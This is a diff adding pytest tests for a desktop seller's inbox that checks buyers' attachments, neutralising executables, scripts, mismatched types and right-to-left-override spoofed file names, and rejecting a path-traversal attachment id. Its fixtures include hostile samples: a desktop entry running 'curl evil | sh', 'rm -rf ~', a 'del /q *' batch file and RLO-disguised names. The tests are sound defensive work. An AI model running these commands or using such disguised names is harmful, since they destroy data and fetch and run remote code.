@@ -1,0 +1,234 @@
+"""Buyers' attachments: only images, PDFs and plain text whose content agrees are opened; anything else is kept
+under a neutralised name and shown in its folder with a warning. Bidi controls are shown, never obeyed."""
+
+from __future__ import annotations
+
+import sqlite3
+from pathlib import Path
+from typing import Any, Callable
+
+import pytest
+from PySide6.QtWidgets import QLabel, QMessageBox, QPushButton
+
+from magazyn_desktop.app_context import AppContext
+from magazyn_desktop.paths import AppPaths
+from magazyn_desktop.store.db import connect
+from magazyn_desktop.store.inbox_queries import Filter
+from magazyn_desktop.ui.attachments import assess_download
+from magazyn_desktop.ui.conversation_list_model import ROW_ROLE, ConversationListModel
+from magazyn_desktop.ui.visible_text import visible_controls
+from ui_sample_data import PNG_BYTES, FakeBackend, insert_conversation, insert_message
+
+PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
+DESKTOP_ENTRY = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\nName=zdjecie\n"
+SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
+RLO = "\u202e"
+
+
+@pytest.mark.parametrize(("name", "content", "declared", "saved_as", "opened"), [
+    ("zdjecie.png", PNG_BYTES, "image/png", "zdjecie.png", True),
+    ("zdjecie.jpg", PNG_BYTES, "image/jpeg", "zdjecie.jpg", True),  # an image viewer reads either
+    ("skan.JPEG", JPEG, None, "skan.JPEG", True),
+    ("paragon.pdf", PDF, "application/pdf", "paragon.pdf", True),
+    ("paragon.pdf", PDF, "application/octet-stream", "paragon.pdf", True),
+    ("notatka.txt", "Proszę o zwrot. Żółw.".encode(), "text/plain", "notatka.txt", True),
+    ("faktura.pdf.exe", EXE, "application/x-msdownload", "faktura.pdf_exe.bin", False),
+    ("faktura.pdf.exe", EXE, "application/pdf", "faktura.pdf_exe.bin", False),
+    ("zdjecie.desktop", DESKTOP_ENTRY, "image/png", "zdjecie_desktop.bin", False),
+    ("run.bat", b"@echo off\r\ndel /q *\r\n", "text/plain", "run_bat.bin", False),
+    ("x.sh", SCRIPT, "text/plain", "x_sh.bin", False),
+    ("zdjecie.png", EXE, "image/png", "zdjecie_png.bin", False),  # the content is no image
+    ("paragon.pdf", PNG_BYTES, "application/pdf", "paragon_pdf.bin", False),
+    ("notatka.txt", b"text\x00with a NUL", "text/plain", "notatka_txt.bin", False),
+    ("notatka.txt", b"\xff\xfe not UTF-8", "text/plain", "notatka_txt.bin", False),
+    ("paragon.pdf", PDF, "text/html", "paragon_pdf.bin", False),  # the declared type disagrees
+    ("zdjecie.png", b"", "image/png", "zdjecie_png.bin", False),
+    ("README", b"plain words", "text/plain", "README.bin", False),
+    (f"faktura{RLO}gpj.exe", EXE, "image/jpeg", "faktura⟨U+202E⟩gpj_exe.bin", False),
+    (f"zdj{RLO}gnp.png", PNG_BYTES, "image/png", "zdj⟨U+202E⟩gnp.png", True),
+])
+def test_assess_download(name: str, content: bytes, declared: str | None, saved_as: str, opened: bool) -> None:
+    assessed = assess_download(name, content, declared)
+    assert (assessed.file_name, assessed.openable) == (saved_as, opened)
+
+
+def test_visible_controls_marks_every_bidi_control() -> None:
+    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+    shown = visible_controls(f"a{controls}b")
+    assert shown == "a" + "".join(f"⟨U+{ord(c):04X}⟩" for c in controls) + "b"
+    assert visible_controls("Dzień dobry, żółw") == "Dzień dobry, żółw"
+
+
+def _download(qtbot: Any, window: Any) -> Path:
+    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
+        window.open_conversation("thread-anna")
+    attachment = window.conversation_view().detail.messages[1].attachments[0]
+    with qtbot.waitSignal(window.attachment_saved, timeout=5000) as blocker:
+        window.conversation_view().attachment_requested.emit(attachment)
+    return blocker.args[0]
+
+
+def _settle(qtbot: Any, window: Any) -> None:
+    qtbot.waitUntil(lambda: window._pool.active_count() == 0 and window._writer.active_count() == 0, timeout=5000)
+
+
+@pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
+@pytest.mark.parametrize(("content", "name", "declared"), [
+    (EXE, "faktura.pdf.exe", "application/x-msdownload"),
+    (DESKTOP_ENTRY, "zdjecie.desktop", "image/png"),
+    (SCRIPT, "x.sh", None),
+    (EXE, f"faktura{RLO}gpj.exe", "image/jpeg"),
+])
+def test_a_risky_attachment_is_kept_and_shown_in_its_folder(qtbot: Any, make_window: Callable[..., Any],
+                                                            fake_backend: FakeBackend, context: AppContext,
+                                                            content: bytes, name: str, declared: str | None) -> None:
+    fake_backend.client.download = (content, name, declared)
+    window = make_window()
+    opened: list[Path] = []
+    folders: list[Path] = []
+    window.open_file = opened.append
+    window.open_folder = folders.append
+    path = _download(qtbot, window)
+    assert path.parent == context.paths.attachments and path.suffix == ".bin"
+    assert path.read_bytes() == content and opened == []
+    box = window.findChild(QMessageBox, "attachmentWarning")
+    assert box is not None
+    qtbot.waitUntil(box.isVisible, timeout=5000)
+    assert "⟨U+202E⟩" in box.text() or RLO not in name
+    assert RLO not in box.text()
+    show = box.findChild(QPushButton, "showInFolder")
+    assert show is not None and show.text() == "Pokaż w folderze"
+    show.click()
+    assert folders == [context.paths.attachments] and opened == []
+    _settle(qtbot, window)
+
+
+def test_a_safe_attachment_is_opened_directly(qtbot: Any, make_window: Callable[..., Any]) -> None:
+    window = make_window()
+    opened: list[Path] = []
+    window.open_file = opened.append
+    path = _download(qtbot, window)
+    assert opened == [path] and path.name == "zdjecie.png"
+    assert window.findChild(QMessageBox, "attachmentWarning") is None
+    _settle(qtbot, window)
+
+
+def test_a_hostile_attachment_id_never_reaches_allegro(qtbot: Any, make_window: Callable[..., Any],
+                                                       fake_backend: FakeBackend, sample_paths: AppPaths) -> None:
+    from magazyn_desktop.allegro.ids import checked_id
+
+    db = sqlite3.connect(sample_paths.database)
+    db.execute("UPDATE attachments SET remote_id='../../../me' WHERE message_id='m-anna-2'")
+    db.commit()
+    db.close()
+    fake_backend.client.download_attachment = lambda kind, attachment_id: (checked_id(attachment_id, "attachment"),)
+    window = make_window()
+    opened: list[Path] = []
+    window.open_file = opened.append
+    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
+        window.open_conversation("thread-anna")
+    attachment = window.conversation_view().detail.messages[1].attachments[0]
+    with qtbot.waitSignal(window.user_message, timeout=5000) as blocker:
+        window.conversation_view().attachment_requested.emit(attachment)
+    assert "załącznik" in blocker.args[0].lower()
+    assert opened == [] and not any(window._paths.attachments.glob("*"))
+    _settle(qtbot, window)
+
+
+def _with_bidi_conversation(paths: AppPaths) -> None:
+    db = sqlite3.connect(paths.database)
+    insert_conversation(db, "thread-bidi", login=f"ann{RLO}a_k", minutes_ago=1, snippet=f"Zwrot {RLO}gpj.exe")
+    insert_message(db, "m-bidi-1", "thread-bidi", f"Zobacz plik {RLO}gpj.exe\u2066x\u2069", minutes_ago=1,
+                   login=f"ann{RLO}a_k")
+    db.execute("INSERT INTO attachments (message_id, remote_id, file_name, mime_type) "
+               f"VALUES ('m-bidi-1', 'att-9', 'zdj{RLO}gpj.exe', 'image/jpeg')")
+    db.commit()
+    db.close()
+
+
+def test_conversation_view_shows_bidi_controls(qtbot: Any, make_window: Callable[..., Any],
+                                              sample_paths: AppPaths) -> None:
+    _with_bidi_conversation(sample_paths)
+    window = make_window()
+    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
+        window.open_conversation("thread-bidi")
+    view = window.conversation_view()
+    assert view.message_texts() == ["Zobacz plik ⟨U+202E⟩gpj.exe⟨U+2066⟩x⟨U+2069⟩"]
+    shown = [label.text() for label in view.findChildren(QLabel)]
+    assert any("ann⟨U+202E⟩a_k" in text for text in shown)
+    button = view.findChild(QPushButton, "attachment_1") or next(
+        b for b in view.findChildren(QPushButton) if b.objectName().startswith("attachment_"))
+    assert "⟨U+202E⟩" in button.text() and "⟨U+202E⟩" in button.toolTip()
+    everything = shown + [b.text() for b in view.findChildren(QPushButton)] + [b.toolTip() for b in
+                                                                              view.findChildren(QPushButton)]
+    assert not any(RLO in text or "\u2066" in text for text in everything)
+    _settle(qtbot, window)
+
+
+def test_list_rows_show_bidi_controls(qtbot: Any, sample_paths: AppPaths) -> None:
+    from PySide6.QtCore import Qt
+
+    _with_bidi_conversation(sample_paths)
+    model = ConversationListModel(lambda: connect(sample_paths.database, read_only=True))
+    model.set_query(Filter.ALL, "")
+    index = next(model.index(r, 0) for r in range(model.rowCount())
+                 if model.index(r, 0).data(ROW_ROLE).id == "thread-bidi")
+    texts = [index.data(role) for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole,
+                                           Qt.ItemDataRole.AccessibleTextRole)]
+    assert all(RLO not in text and "⟨U+202E⟩" in text for text in texts), texts
+    model.close()
+
+
+def test_order_panel_shows_bidi_controls_in_what_the_buyer_typed(qtbot: Any) -> None:
+    from dataclasses import replace
+
+    from magazyn_desktop.ui.order_panel import OrderPanel
+    from ui_sample_data import sample_order
+
+    panel = OrderPanel()
+    qtbot.addWidget(panel)
+    order = sample_order("order-1001")
+    item = replace(order.line_items[0], name=f"Kubek {RLO}gpj.exe")
+    panel.show_order(replace(order, message_to_seller=f"Proszę {RLO}odnapaz", line_items=(item,)))
+    texts = [label.text() for label in panel.findChildren(QLabel)]
+    assert any("⟨U+202E⟩odnapaz" in text for text in texts)
+    assert not any(RLO in text for text in texts)
+    assert panel.shown_items()[0][0] == "Kubek ⟨U+202E⟩gpj.exe"
+
+
+def test_tray_notifications_show_bidi_controls() -> None:
+    from types import SimpleNamespace
+
+    from magazyn_desktop.ui.tray import notification_text
+
+    login, text = notification_text(SimpleNamespace(author_login=f"ann{RLO}a", text=f"Zwrot {RLO}gpj.exe"))
+    assert (login, text) == ("ann⟨U+202E⟩a", "Zwrot ⟨U+202E⟩gpj.exe")
+
+
+@pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
+def test_a_saved_copy_is_checked_like_a_download(qtbot: Any, make_window: Callable[..., Any],
+                                                 fake_backend: FakeBackend, sample_paths: AppPaths,
+                                                 tmp_path: Path) -> None:
+    kept = tmp_path / "kopie" / "faktura.pdf.exe"
+    kept.parent.mkdir()
+    kept.write_bytes(EXE)
+    db = sqlite3.connect(sample_paths.database)
+    db.execute("UPDATE attachments SET local_path=? WHERE message_id='m-anna-2'", (str(kept),))
+    db.commit()
+    db.close()
+    window = make_window()
+    opened: list[Path] = []
+    folders: list[Path] = []
+    window.open_file = opened.append
+    window.open_folder = folders.append
+    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
+        window.open_conversation("thread-anna")
+    attachment = window.conversation_view().detail.messages[1].attachments[0]
+    window.conversation_view().attachment_requested.emit(attachment)
+    box = window.findChild(QMessageBox, "attachmentWarning")
+    assert box is not None and opened == [] and fake_backend.client.attachments_asked == []
+    box.findChild(QPushButton, "showInFolder").click()
+    assert folders == [kept.parent]
+    _settle(qtbot, window)
